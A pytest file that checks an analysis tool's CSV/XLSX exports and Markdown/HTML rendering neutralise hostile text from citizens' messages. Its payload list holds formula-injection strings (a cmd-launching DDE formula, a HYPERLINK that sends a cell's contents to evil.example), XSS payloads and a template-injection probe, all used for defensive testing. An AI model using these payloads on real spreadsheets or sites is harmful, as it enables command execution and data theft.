"""Malicious payloads in citizens' texts: neutralised in CSV/XLSX exports, escaped when rendered."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pandas as pd
import pytest

from analysis import exports

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Cliquez ici")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "\u2212 1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    "{{7*7}}",
    "[Cliquez](javascript:alert(1)) ![pixel](http://evil.example/p.png)",
    "www.evil.example https://evil.example/x contact@evil.example",
]
FORMULA_LIKE = PAYLOADS[:10]
HARMLESS = ["Bonjour", "3 + 4 = 7", "'déjà protégé", "", "100 %"]


def _frame() -> pd.DataFrame:
    n = len(PAYLOADS) + len(HARMLESS)
    return pd.DataFrame({"message_id": [f"facebook:{i}" for i in range(n)], "texte": PAYLOADS + HARMLESS,
                         "likes": list(range(-3, n - 3)), "=colonne": [1.5] * n})


@pytest.mark.parametrize("payload", FORMULA_LIKE)
def test_neutralise_prefixes_formula_cells(payload):
    assert exports.neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", HARMLESS + [-3, 2.5, None, pd.NaT])
def test_neutralise_leaves_the_rest(value):
    out = exports.neutralise(value)
    assert out is value or out == value


def test_csv_export_has_no_cell_a_spreadsheet_would_evaluate():
    raw = exports.to_csv_bytes(_frame())
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    header, body = rows[0], rows[1:]
    assert header == ["message_id", "texte", "likes", "'=colonne"]
    texts = [r[1] for r in body]
    for cell in (c for r in rows for i, c in enumerate(r) if i != 2):  # column 2 holds numbers
        assert not cell.lstrip(" ").startswith(exports.FORMULA_PREFIXES), cell
    assert texts[: len(FORMULA_LIKE)] == ["'" + p for p in FORMULA_LIKE]
    assert texts[len(PAYLOADS):] == HARMLESS
    # numbers stay numbers (French decimal comma), negative ones included
    assert [r[2] for r in body[:4]] == ["-3", "-2", "-1", "0"] and body[0][3] == "1,5"


def test_xlsx_export_stores_payloads_as_text_not_formulas():
    wb = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx_bytes(_frame())))
    ws = wb.active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # not a single formula
    col = [ws.cell(row=i + 2, column=2).value for i in range(len(FORMULA_LIKE))]
    assert col == ["'" + p for p in FORMULA_LIKE]
    assert ws.cell(row=1, column=4).value == "'=colonne"
    assert ws.cell(row=2, column=3).value == -3


def test_write_csv_roundtrip(tmp_path):
    p = exports.write_csv(pd.DataFrame({"text": ["=1+1", "ok"]}), tmp_path / "x.csv")
    assert p.read_bytes().decode("utf-8-sig") == "text\r\n'=1+1\r\nok\r\n"


def test_carriage_return_inside_a_message_cannot_start_a_row():
    raw = exports.to_csv_bytes(pd.DataFrame({"t": ["avant\r=1+1", "x\n@SUM(1)"]})).decode("utf-8-sig")
    assert raw == 't\r\n"avant\r=1+1"\r\n"x\n@SUM(1)"\r\n'  # quoted: one cell each


@pytest.mark.parametrize("payload", PAYLOADS[10:])
def test_markdown_escape_leaves_no_markup(payload):
    out = exports.escape_markdown(payload)
    assert "<" not in out and ">" not in out
    assert not re.search(r"(?<!\\)[\[\]()]", out)  # no link/image syntax survives
    plain = out.replace("\\", "")  # nor a bare address GFM would link in the parsed text
    assert "://" not in plain and "www." not in plain and not re.search(r"@\w", plain)
    # what a reader sees once markdown unescapes it is the original text
    unescaped = re.sub(r"\\(.)", r"\1", out).replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    assert unescaped.replace("\u200b", "") == payload  # zero-width spaces break bare links, unseen


def test_html_escape_and_jinja_autoescape():
    assert exports.escape_html('<img src=x onerror="alert(1)">') == "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;"
    from analysis.reports import render

    env = render._env()
    assert env.autoescape("report.html.j2") and env.autoescape("sections/table.html.j2")

    # the report's own environment escapes, and does not evaluate template syntax in data
    out = env.from_string("<p>{{ t }}</p>").render(t="<script>alert(1)</script> {{7*7}}")
    assert out == "<p>&lt;script&gt;alert(1)&lt;/script&gt; {{7*7}}</p>"


def test_word_cloud_title_escaped():
    from analysis.topics import word_cloud_html

    out = word_cloud_html(b"png", '<img src=x onerror="alert(1)"> & "co"')
    assert "<img src=x" not in out and "onerror=&quot;" in out
    assert out.count("<img ") == 1  # only the cloud itself
